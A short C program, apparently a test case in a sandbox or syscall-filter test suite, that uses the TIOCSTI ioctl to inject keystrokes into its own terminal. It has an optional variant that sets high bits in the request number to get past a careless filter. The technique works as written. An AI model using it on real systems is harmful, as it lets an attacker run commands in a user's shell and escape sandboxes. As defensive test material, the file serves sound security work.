// Types into its own terminal as if a person had, which a shell that reads there afterwards would obey. With `high` the request number
// carries bits above 32, which the kernel ignores and a careless filter does not. Arguments: PROOF-FILE plain|high
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

int main(int count, char **words) {
  attempting(count, 2);
  unsigned long request = TIOCSTI;
  if (strcmp(words[2], "high") == 0) request |= 1UL << 32;
  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal < 0) refused("open terminal");
  for (const char *letter = "typed by the attacker\n"; *letter != '\0'; letter++)
    if (syscall(SYS_ioctl, terminal, request, letter) != 0) refused("TIOCSTI");
  char line[64] = {0};
  if (read(terminal, line, sizeof line - 1) <= 0) refused("read");
  write_proof(words[1], line);
  return 0;
}
